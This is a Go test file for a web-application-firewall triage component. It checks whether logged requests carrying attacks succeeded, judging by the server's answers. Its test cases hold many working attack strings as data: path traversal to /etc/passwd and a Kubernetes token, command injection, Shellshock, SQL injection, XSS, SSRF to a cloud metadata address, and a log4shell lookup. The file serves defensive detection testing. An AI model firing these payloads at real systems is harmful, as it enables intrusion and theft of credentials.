package triage

import (
	"cmp"
	"encoding/json"
	"strings"
	"testing"

	"github.com/modsecurity-for-anylog/msa/engine"
	"github.com/modsecurity-for-anylog/msa/mapping"
)

// attempt is a request with a payload, and its answer.
type attempt struct {
	kind, payload   string // of the attack
	method          string // "GET"
	uri, request    string // "/" and no body by default
	status, headers string // "200", and no more than the type
	mime, body      string // "text/html"
	took            string // seconds and milliseconds, "00.020"
	succeeded       bool   // a rule says so
	databaseError   bool   // likewise
}

func (a attempt) exchange(t testing.TB) (*mapping.Transaction, *engine.Verdict) {
	t.Helper()
	status := cmp.Or(a.status, "200")
	text, err := json.Marshal(map[string]string{
		"METHOD": cmp.Or(a.method, "GET"), "URL": cmp.Or(a.uri, "/"), "SRC_IP": "10.0.0.7", "DST_IP": "10.0.1.5", "RETCODE": status, "DOMAIN": "shop.example.com", "REQ_BODY": a.request,
		"BEGIN_TIME": "2026-11-20 10:11:00.000", "END_TIME": "2026-11-20 10:11:" + cmp.Or(a.took, "00.020"),
		"RSP_HEADER": "HTTP/1.1 " + status + " X\r\nContent-Type: " + cmp.Or(a.mime, "text/html; charset=utf-8") + "\r\n" + a.headers + "\r\n",
		"RSP_BODY":   a.body,
	})
	if err != nil {
		t.Fatal(err)
	}
	record, _, err := mapping.AppendJSON(nil, text)
	if err != nil {
		t.Fatal(err)
	}
	m, err := mapping.Load("nano")
	if err != nil {
		t.Fatal(err)
	}
	tx := new(mapping.Transaction)
	if err := m.Map("t", record, tx); err != nil {
		t.Fatal(err)
	}
	v := &engine.Verdict{Alarm: true, Matches: []engine.Match{{
		RuleID: 9000001, Phase: 2, Tags: []string{"attack-" + a.kind}, Places: []engine.Place{{Variable: "ARGS:q", Value: a.payload}},
	}}}
	if a.succeeded {
		v.Matches = append(v.Matches, engine.Match{RuleID: 9000002, Phase: 4, Message: "The answer has it", Tags: []string{"succeeded"}})
	}
	if a.databaseError {
		v.Matches = append(v.Matches, engine.Match{RuleID: 951230, Phase: 4})
	}
	return tx, v
}

// Each kind of evidence, and what looks like it and is none.
func TestOutcome(t *testing.T) {
	const union = "1 union all select concat(0x716b6a7871,version(),0x7176627071)-- "
	const script = `<script>alert(1)</script>`
	for name, c := range map[string]struct {
		attempt
		want     Outcome
		evidence string
	}{
		"rule of answers":                {attempt{kind: "lfi", payload: "../../etc/passwd", succeeded: true}, Success, "The answer has it"},
		"rule of answers, with an error": {attempt{kind: "lfi", payload: "../../etc/passwd", status: "500", succeeded: true}, Success, "The answer has it"},

		"file that PHP could not open":      {attempt{kind: "lfi", payload: "../../etc/passwd", body: "<b>Warning</b>: include(../../etc/passwd): failed to open stream: No such file or directory in /srv/v.php"}, Failure, "could not be opened"},
		"file that Go could not open":       {attempt{kind: "lfi", payload: "../../etc/shadow", mime: "application/json", body: `{"error":"open /srv/../../etc/shadow: permission denied"}`}, Failure, "permission denied"},
		"file that a command did not find":  {attempt{kind: "rce", payload: ";cat /etc/nothing", body: "cat: /etc/nothing: No such file or directory"}, Unknown, "nothing"},
		"error that was sent":               {attempt{kind: "lfi", payload: "../../etc/passwd [Errno 2] No", body: "<p>../../etc/passwd [Errno 2] No</p>"}, Unknown, "nothing"},
		"file behind a warning":             {attempt{kind: "lfi", payload: "../../etc/passwd", succeeded: true, body: "failed to open stream: No such file"}, Success, "The answer has it"},
		"page in place of a file":           {attempt{kind: "lfi", uri: "/.env", payload: "/.env", body: "<!doctype html><html><body><div id=app></div></body></html>"}, Failure, "a page"},
		"page about a file":                 {attempt{kind: "lfi", uri: "/view?f=/.env", payload: "/.env", body: "<!doctype html><html><body>settings</body></html>"}, Unknown, "nothing"},
		"file with another type":            {attempt{kind: "lfi", uri: "/.git/HEAD", payload: "/.git/HEAD", mime: "text/plain", body: "ref: refs/heads/main"}, Success, "git"},
		"passwd in base64":                  {attempt{kind: "lfi", payload: "php://filter/convert.base64-encode/resource=/etc/passwd", body: "cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaA=="}, Success, "base64"},
		"token of a service account":        {attempt{kind: "lfi", payload: "../../run/secrets/kubernetes.io/serviceaccount/token", mime: "text/plain", body: "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlIn0ab.c2lnbmF0dXJl"}, Success, "token"},
		"sum":                               {attempt{kind: "rce", payload: ";echo QZWX$((35+24))", body: "ping: QZWX59\n"}, Success, "59"},
		"sum, echoed":                       {attempt{kind: "rce", payload: ";echo QZWX$((35+24))", body: "no host ;echo QZWX$((35+24))"}, Unknown, "nothing"},
		"expr":                              {attempt{kind: "rce", payload: "`expr 31337 + 11`", body: "<p>31348</p>"}, Success, "31348"},
		"two words":                         {attempt{kind: "rce", payload: "() { :;}; echo; echo -n qwlab; echo zzkit", body: "qwlabzzkit\n"}, Success, "qwlabzzkit"},
		"two words, echoed":                 {attempt{kind: "rce", payload: "() { :;}; echo; echo -n qwlab; echo zzkit", body: "agent () { :;}; echo; echo -n qwlab; echo zzkit"}, Unknown, "nothing"},
		"bytes":                             {attempt{kind: "rce", payload: `() { :;}; echo; echo -e '\x4c\x61\x62\x34\x37\x31\x31'`, body: "Lab4711\n"}, Success, "Lab4711"},
		"bytes, of a shell that knows none": {attempt{kind: "rce", payload: `() { :;}; echo; echo -e '\x4c\x61\x62\x34\x37\x31\x31'`, body: "\n-e \\x4c\\x61\\x62\\x34\\x37\\x31\\x31\n", mime: "text/plain"}, Success, "prints"},
		"bytes, echoed":                     {attempt{kind: "rce", payload: `() { :;}; echo; echo -e '\x4c\x61\x62\x34\x37\x31\x31'`, body: `agent echo -e '\x4c\x61\x62\x34\x37\x31\x31'`}, Unknown, "nothing"},
		"template":                          {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<h1>Hello 49</h1>"}, Success, "49"},
		"template, echoed":                  {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<h1>Hello {{7*7}}</h1> 49"}, Unknown, "nothing"},
		"template, a price":                 {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<b>49.90</b> for 1-49 of x49"}, Unknown, "nothing"},
		"template, a long page":             {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<b>49</b>" + strings.Repeat("<p>text</p>", 100)}, Unknown, ""},
		"template, in its place":            {attempt{kind: "injection-generic", payload: "abc${7*7}xyz", body: strings.Repeat("<p>t</p>", 100) + "abc49xyz"}, Success, "49"},
		"template of Python":                {attempt{kind: "injection-generic", payload: "{{7*'7'}}", body: "Hi 7777777!"}, Success, "7777777"},
		"a large number":                    {attempt{kind: "injection-generic", payload: "#{1337*1337}", body: `{"name":"1787569"}`, mime: "application/json"}, Success, "1787569"},
		"within a larger number":            {attempt{kind: "injection-generic", payload: "#{1337*1337}", body: `{"id":"917875690"}`, mime: "application/json"}, Unknown, ""},
		"result in the payload":             {attempt{kind: "injection-generic", payload: "#{1337*1337}=1787569", body: "1787569"}, Unknown, ""},

		"markers":                          {attempt{kind: "sqli", payload: union, body: "<td>qkjxq8.0.34qvbpq</td>"}, Success, "qkjxq … qvbpq"},
		"markers, echoed":                  {attempt{kind: "sqli", payload: union, body: "no product " + union}, Unknown, ""},
		"one marker":                       {attempt{kind: "sqli", payload: "1 union select * from u where n=0x61646d696e", body: "admin"}, Unknown, ""},
		"characters":                       {attempt{kind: "sqli", payload: "1 UNION SELECT CHAR(113)+CHAR(112)+CHAR(106)+CHAR(113)+x+CHR(113)||CHR(118)||CHR(122)||CHR(113)", body: "qpjq1qvzq"}, Success, "qpjq … qvzq"},
		"digest":                           {attempt{kind: "sqli", payload: "1 union select md5(31337)", body: "6f3249aa304055d63828af3bfab778f6"}, Success, "md5(31337)"},
		"error that quotes":                {attempt{kind: "sqli", payload: "extractvalue(1,concat(0x7e,user()))", status: "500", body: "XPATH syntax error: '~shop@localhost'"}, Success, "quotes"},
		"error that quotes, SQL Server":    {attempt{kind: "sqli", payload: "1 AND 1=CONVERT(INT,@@version)", status: "500", body: "Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2022' to data type int."}, Success, "quotes"},
		"error that quotes, PostgreSQL":    {attempt{kind: "sqli", payload: "1 AND 1=CAST((SELECT current_user) AS NUMERIC)", status: "500", body: `ERROR: invalid input syntax for type numeric: "shop"`, databaseError: true}, Success, "quotes"},
		"error that quotes the payload":    {attempt{kind: "sqli", payload: "1 AND 1=CAST((SELECT current_user) AS NUMERIC)", status: "500", body: `ERROR: invalid input syntax for type integer: "1 AND 1=CAST((SELECT current_user) AS NUMERIC)"`, databaseError: true}, Failure, "error"},
		"error that quotes more than that": {attempt{kind: "sqli", payload: "AND 1=CAST((SELECT current_user) AS NUMERIC)", status: "500", body: `ERROR: invalid input syntax for type integer: "7 AND 1=CAST((SELECT current_user) AS NUMERIC)"`, databaseError: true}, Failure, "error"},
		"error of a database":              {attempt{kind: "sqli", payload: "1'", status: "500", databaseError: true}, Failure, "error of the database"},
		"error of a database, 200":         {attempt{kind: "sqli", payload: "1'", databaseError: true}, Unknown, "nothing"},

		"waited":                 {attempt{kind: "sqli", payload: "1 and SLEEP(5)", took: "05.031"}, Success, "5.03 s"},
		"waited, SQL Server":     {attempt{kind: "sqli", payload: "1;waitfor delay '0:0:4'", took: "04.100"}, Success, "4.10 s"},
		"waited, shell":          {attempt{kind: "rce", payload: ";sleep 6;", took: "06.002"}, Success, "6.00 s"},
		"waited, ping":           {attempt{kind: "rce", payload: "|ping -n 5 127.0.0.1", took: "04.050"}, Success, "4.05 s"},
		"did not wait":           {attempt{kind: "sqli", payload: "1 and SLEEP(5)", took: "00.031"}, Unknown, "asks for 5 s"},
		"waited for much longer": {attempt{kind: "sqli", payload: "1 and SLEEP(5)", took: "30.000"}, Unknown, ""},
		"waited for each row":    {attempt{kind: "sqli", payload: "1 or SLEEP(5)", took: "25.031"}, Success, "as SLEEP(5 asks 5 times"},
		"busy for long":          {attempt{kind: "sqli", payload: "1 or SLEEP(5)", took: "26.700"}, Unknown, ""},
		"slow by itself":         {attempt{kind: "sqli", payload: "1' or '1'='1", took: "06.000"}, Unknown, ""},
		"too short a wait":       {attempt{kind: "sqli", payload: "1 and SLEEP(1)", took: "01.100"}, Unknown, ""},

		"script":                            {attempt{kind: "xss", payload: "x" + script, body: "<p>x" + script + "</p>"}, Success, "script"},
		"script, escaped":                   {attempt{kind: "xss", payload: script, body: "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"}, Failure, "as text"},
		"script in JSON":                    {attempt{kind: "xss", payload: script, body: `{"q":"` + script + `"}`, mime: "application/json"}, Unknown, ""},
		"script in text":                    {attempt{kind: "xss", payload: script, body: script, mime: "text/plain"}, Unknown, ""},
		"script in a textarea":              {attempt{kind: "xss", payload: script, body: "<textarea>" + script + "</textarea>"}, Unknown, ""},
		"handler":                           {attempt{kind: "xss", payload: `x" onfocus="alert(1)`, body: `<input value="x" onfocus="alert(1)">`}, Success, "handler"},
		"handler, the page escapes tags":    {attempt{kind: "xss", payload: `"><img src=x onerror=alert(1)>`, body: `<input value=""&gt;&lt;img src=x onerror=alert(1)&gt;">`}, Success, "handler in a tag"},
		"handler, a backslash":              {attempt{kind: "xss", payload: `" autofocus onfocus=alert(1) x="`, body: `<input value="\" autofocus onfocus=alert(1) x=\"">`}, Success, "handler in a tag"},
		"handler, no quotes at all":         {attempt{kind: "xss", payload: `x onfocus=alert(1) autofocus`, body: `<input value=x onfocus=alert(1) autofocus>`}, Success, "handler in a tag"},
		"handler, a part of a value":        {attempt{kind: "xss", payload: `x/onfocus=alert(1)`, body: `<input value=x/onfocus=alert(1)>`}, Unknown, ""},
		"handler behind the other quote":    {attempt{kind: "xss", payload: `" onfocus="alert(1)`, body: `<input value='" onfocus="alert(1)'>`}, Unknown, ""},
		"handler in a text of a form":       {attempt{kind: "xss", payload: `" onfocus="alert(1)`, body: `<textarea title=a>" onfocus="alert(1)</textarea>`}, Unknown, ""},
		"handler in a script":               {attempt{kind: "xss", payload: `" onfocus=alert(1) `, body: `<script>var t = '<input value="" onfocus=alert(1) ">'</script>`}, Unknown, ""},
		"handler of the site":               {attempt{kind: "xss", payload: `" onfocus=alert(1) `, body: `<a onfocus="track(1)">&quot; onfocus=alert(1)</a>`}, Unknown, ""},
		"address of a script":               {attempt{kind: "xss", payload: `javascript:alert('a')`, body: `<a class=b href="javascript:alert(&#39;a&#39;)">Back</a>`}, Success, "as an address"},
		"address of a script in text":       {attempt{kind: "xss", payload: `javascript:alert('a')`, body: `<p>javascript:alert(&#39;a&#39;)</p>`}, Unknown, ""},
		"address of a script, of a picture": {attempt{kind: "xss", payload: `javascript:alert(4711)`, body: `<img src="javascript:alert(4711)">`}, Unknown, ""},
		"script of a few signs":             {attempt{kind: "xss", payload: `"><script>"`, body: `<b>"><script>"</b>`}, Success, "script"},
		"script with a plus":                {attempt{kind: "xss", payload: `<script>a='b?'  document.cookie</script>`, body: `<script>a='b?' +document.cookie</script>`}, Success, "script"},
		"script in a script":                {attempt{kind: "xss", payload: script, body: `<script>var t = "` + strings.ReplaceAll(script, "/", `\/`) + script[:8] + `"`}, Unknown, ""},
		"handler in text":                   {attempt{kind: "xss", payload: `x" onfocus="alert(1)`, body: `<p>x" onfocus="alert(1)</p>`}, Unknown, ""},

		"script, as text":                      {attempt{kind: "xss", payload: `"><svg/onload=alert(1)>`, body: `<p>Nothing for &quot;&gt;&lt;svg/onload=alert(1)&gt;</p>`}, Failure, "as text"},
		"script, quotes left":                  {attempt{kind: "xss", payload: `"><svg/onload=alert(1)>`, body: `<input value=""&gt;&lt;svg/onload=alert(1)&gt;">`}, Success, "handler in a tag"},
		"script, as text and not":              {attempt{kind: "xss", payload: `x<svg>y`, body: `<p>x&lt;svg&gt;y</p><p>x<svg>y</p>`}, Unknown, ""},
		"redirect":                             {attempt{kind: "rfi", payload: "https://evil.example.net/a", status: "302", headers: "Location: https://evil.example.net/a\r\n"}, Success, "evil.example.net"},
		"redirect, no scheme":                  {attempt{kind: "rfi", payload: `/\evil.example.net`, status: "302", headers: "Location: //evil.example.net\r\n"}, Success, ""},
		"redirect to itself":                   {attempt{kind: "rfi", payload: "https://shop.example.com/a", status: "302", headers: "Location: https://shop.example.com/a\r\n"}, Unknown, ""},
		"redirect to a partner of a traversal": {attempt{kind: "lfi", payload: "https://partner.example.net/../../etc/passwd", status: "302", headers: "Location: https://partner.example.net/welcome\r\n"}, Unknown, ""},
		"redirect to a partner of a statement": {attempt{kind: "sqli", payload: "https://partner.example.net/;waitfor delay '0:0:7'--", status: "302", headers: "Location: https://partner.example.net/\r\n"}, Unknown, ""},
		"redirect to the login":                {attempt{kind: "sqli", payload: "1'", status: "302", headers: "Location: /login?next=%2F\r\n"}, Failure, "login"},
		"redirect elsewhere":                   {attempt{kind: "sqli", payload: "1'", status: "302", headers: "Location: /blogin\r\n"}, Unknown, ""},

		"header":           {attempt{kind: "protocol", payload: "a\r\nX-Injected: yes", headers: "X-Injected: yes\r\n"}, Success, "X-Injected"},
		"another's header": {attempt{kind: "protocol", payload: "a\r\nServer: mine", headers: "Server: nginx\r\n"}, Unknown, ""},

		"source":              {attempt{kind: "lfi", payload: "php://filter/resource=index", body: "<?php\n$db = 1;"}, Success, "PHP"},
		"source, escaped":     {attempt{kind: "lfi", payload: "../index.php", body: "&lt;?php $a"}, Success, "PHP"},
		"source in base64":    {attempt{kind: "lfi", payload: "php://filter/convert.base64-encode/resource=a", body: "PD9waHAKZWNobyAxOw=="}, Success, "base64"},
		"settings":            {attempt{kind: "lfi", payload: "/.env", mime: "text/plain", body: "# app\nAPP_ENV=prod\nDB_HOST=db\n"}, Success, "settings"},
		"settings, a page":    {attempt{kind: "lfi", payload: "/.env", body: "<html>not here</html>"}, Unknown, ""},
		"ls":                  {attempt{kind: "rce", payload: ";ls -l", body: "total 8\n-rw-r--r-- 1 app app 12 Nov 20 10:11 a\n"}, Success, "ls"},
		"ls, names":           {attempt{kind: "rce", payload: "|ls", body: "<pre>backup\nconfig.php\nindex.php\n</pre>"}, Success, "names of files"},
		"dir, columns":        {attempt{kind: "rce", payload: "|dir", body: "<pre>backup  files\t index.php  uploads\n</pre>"}, Success, "names of files"},
		"ls, a file of words": {attempt{kind: "rce", payload: "|ls", mime: "text/plain", body: "lamp\nshelf\nchair\n"}, Unknown, ""},
		"ls, prose":           {attempt{kind: "rce", payload: "|ls", body: "<p>see the file index.php for more</p>"}, Unknown, ""},
		"ls, not asked":       {attempt{kind: "sqli", payload: "1'", body: "total 8\n-rw-r--r-- 1 app app 12 Nov 20 10:11 a\n"}, Unknown, ""},
		"ls, in JSON":         {attempt{kind: "rce", payload: ";ls -l", mime: "application/json", body: `{"out":"total 8\n-rw-r--r-- 1 app app 12 Nov 20 10:11 a\n"}`}, Success, "ls"},
		"net user":            {attempt{kind: "rce", payload: "&net user", body: "\r\nUser accounts for \\\\WEB01\r\n"}, Success, "net"},
		"access log":          {attempt{kind: "lfi", payload: "../../log/access.log", mime: "text/plain", body: "10.0.0.4 - - [20/Nov/2026:10:11:12 +0000] \"GET / HTTP/1.1\" 200 5\n"}, Success, "log"},
		"issue":               {attempt{kind: "lfi", payload: "../../etc/issue", body: `Debian GNU/Linux 13 \n \l`}, Success, "system"},
		"sum in the path":     {attempt{kind: "injection-generic", payload: "/hi/%3C%25%3D 9900%2B12345 %25%3E", mime: "text/plain", body: "Hi 22245\n"}, Success, "22245"},
		"sum on Windows":      {attempt{kind: "rce", payload: "&set /a 7331*11", body: "<pre>80641</pre>"}, Success, "80641"},
		"dir":                 {attempt{kind: "rce", payload: "&dir c:\\", body: " Volume Serial Number is 1C2D-3E4F\r\n"}, Success, "dir"},
		"id in a word":        {attempt{kind: "rce", payload: "a$(id)b", mime: "text/plain", body: "no file auid=65534(nobody)"}, Success, "output of id"},
		"printf":              {attempt{kind: "rce", payload: ";printf 'ZQ%sX' 8812", body: "<pre>ZQ8812X</pre>"}, Success, "ZQ8812X"},
		"printf, echoed":      {attempt{kind: "rce", payload: ";printf 'ZQ%sX' 8812", body: "no host ;printf 'ZQ%sX' 8812"}, Unknown, ""},
		"expr, a colon":       {attempt{kind: "rce", payload: "$(expr 4100 + 23)", body: "can't find 4123: NXDOMAIN"}, Success, "4123"},
		"a plus as a space":   {attempt{kind: "injection-generic", payload: "<%= 98700 11111 %>", body: "Hello 109811"}, Success, "109811"},
		"hosts, in XML":       {attempt{kind: "xxe", payload: `<!ENTITY e SYSTEM "file:///etc/hosts">`, mime: "application/xml", body: "<note>127.0.0.1\tlocalhost\n</note>"}, Success, "/etc/hosts"},
		"git, in JSON":        {attempt{kind: "lfi", payload: "../.git/config", mime: "application/json", body: `{"text":"[core]\n\trepositoryformatversion = 0\n"}`}, Success, "git"},
		"search engine":       {attempt{kind: "ssrf", payload: "http://10.0.3.3:9200/", mime: "application/json", body: `{"name":"n1","tagline" : "You Know, for Search"}`}, Success, "service inside"},
		"cluster":             {attempt{kind: "ssrf", payload: "https://10.0.3.3:10250/pods", mime: "application/json", body: `{"preview":"{\"kind\":\"PodList\",\"items\":[]}"}`}, Success, "service inside"},
		"not the cluster":     {attempt{kind: "ssrf", payload: "https://10.0.3.3:10250/pods", mime: "application/json", body: `{"error":"cannot ask"}`}, Unknown, ""},
		"user data":           {attempt{kind: "ssrf", payload: "http://169.254.169.254/latest/user-data", mime: "text/plain", body: "#cloud-config\npackages: []\n"}, Success, "started"},
		"operator, a token":   {attempt{kind: "sqli", payload: "$where", request: `{"$where":"1"}`, mime: "application/json", body: `{"token":"f81d4fae77"}`}, Success, "token"},
		"filtered script":     {attempt{kind: "xss", payload: "<scr<script>ipt>alert(1)</scr</script>ipt>", body: "<p><script>alert(1)</script></p>"}, Success, "script"},
		"login in parts":      {attempt{kind: "sqli", payload: "' or 1=1-- ", request: "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n' or 1=1-- \r\n--b--", status: "302", headers: "Location: /home\r\nSet-Cookie: sid=1\r\n"}, Success, "login was accepted"},
		"environment, quoted": {attempt{kind: "lfi", payload: "/proc/self/environ", mime: "application/json", body: `{"text":"PATH=/usr/local/bin:/usr/bin\u0000HOME=/"}`}, Success, "environment"},
		"environment":         {attempt{kind: "rce", payload: "|env", body: "HOME=/\nPATH=/usr/local/bin:/usr/bin\n"}, Success, "environment"},

		"schema":          {attempt{kind: "generic", payload: "x", request: `{"query":"{__schema{types{name}}}"}`, mime: "application/json", body: `{"data":{"__schema":{"types":[]}}}`}, Success, "schema"},
		"schema, refused": {attempt{kind: "generic", payload: "x", request: `{"query":"{__schema{types{name}}}"}`, mime: "application/json", body: `{"errors":["no __schema"]}`}, Failure, "says that it failed"},

		"refused":               {attempt{kind: "sqli", payload: "1'", status: "403"}, Failure, "403"},
		"not found":             {attempt{kind: "lfi", payload: "../x", status: "404", body: "<h1>Not Found</h1>"}, Failure, "404"},
		"client gone":           {attempt{kind: "sqli", payload: "1'", status: "499"}, Unknown, ""},
		"server failed":         {attempt{kind: "sqli", payload: "1'", status: "502"}, Failure, "502"},
		"page that blocks":      {attempt{kind: "sqli", payload: "1'", body: "<h1>Request blocked</h1>"}, Failure, "request blocked"},
		"article that mentions": {attempt{kind: "sqli", payload: "1'", body: "<h1>Request blocked</h1>" + strings.Repeat("<p>text</p>", 1000)}, Unknown, ""},

		"no body":   {attempt{kind: "sqli", payload: "1'"}, Unknown, "nothing in the answer"},
		"upload":    {attempt{kind: "generic", payload: "a.php", request: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\nx\r\n--b--", status: "201"}, Unknown, "uploaded"},
		"log4shell": {attempt{kind: "rce", payload: "${jndi:ldap://10.9.9.9/a}", body: "ok"}, Unknown, "address"},
		"cut":       {attempt{kind: "sqli", payload: union, headers: "Content-Length: 90000\r\n", body: strings.Repeat("a", 1024)}, Unknown, "cut the answer's body after 1024 bytes"},
	} {
		t.Run(name, func(t *testing.T) {
			tx, v := c.exchange(t)
			got, evidence := OutcomeOf(tx, v)
			if text := strings.Join(evidence, "; "); got != c.want || text == "" || !strings.Contains(text, c.evidence) {
				t.Errorf("%s: %q", got, evidence)
			}
		})
	}
}

// Of a long answer its beginning and its end are read.
func TestOutcomeOfLongAnswer(t *testing.T) {
	fill := strings.Repeat("x ", 40<<10)
	for name, c := range map[string]struct {
		body string
		want Outcome
	}{
		"first": {"QZWX59 " + fill, Success}, "last": {fill + " QZWX59", Success}, "between": {fill + " QZWX59 " + fill, Unknown},
	} {
		tx, v := attempt{kind: "rce", payload: ";echo QZWX$((35+24))"}.exchange(t)
		tx.ResponseBody.Text = c.body
		if got, evidence := OutcomeOf(tx, v); got != c.want {
			t.Errorf("%s: %s, %q", name, got, evidence)
		}
	}
}

func BenchmarkOutcome(b *testing.B) {
	tx, v := attempt{kind: "sqli", payload: "1' or '1'='1", body: strings.Repeat("<p>some text of a page</p>", 40)}.exchange(b)
	b.ReportAllocs()
	for b.Loop() {
		OutcomeOf(tx, v)
	}
}
